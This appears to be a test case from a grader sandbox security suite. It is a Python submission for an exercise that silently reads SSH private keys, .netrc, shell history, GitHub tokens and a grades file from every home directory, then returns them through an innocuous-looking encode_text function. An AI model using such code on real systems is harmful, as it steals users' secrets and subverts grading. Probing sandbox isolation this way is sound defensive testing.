# attack: reads keys, tokens and grades in homes, by environment, password file and guess
# covers: reading home
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full partial
# verdict: passed
# proves: secrets
# holds: there is no home to read in
import glob
import os

homes = {"@HOME@", os.path.expanduser("~"), "/root", *glob.glob("/home/*")}
try:
    import pwd

    homes |= {entry.pw_dir for entry in pwd.getpwall()}
except ImportError:
    pass
won = []
for home in homes:
    for name in (".ssh/id_ed25519", ".ssh/id_rsa", "grades.csv", ".netrc", ".bash_history",
                 ".gitconfig", ".config/gh/hosts.yml"):
        try:
            with open(os.path.join(home, name)) as file:
                won.append(file.read())
        except OSError:
            continue


def encode_text(text, encoding="utf-8"):
    return repr(won).encode() if won else text.encode(encoding)
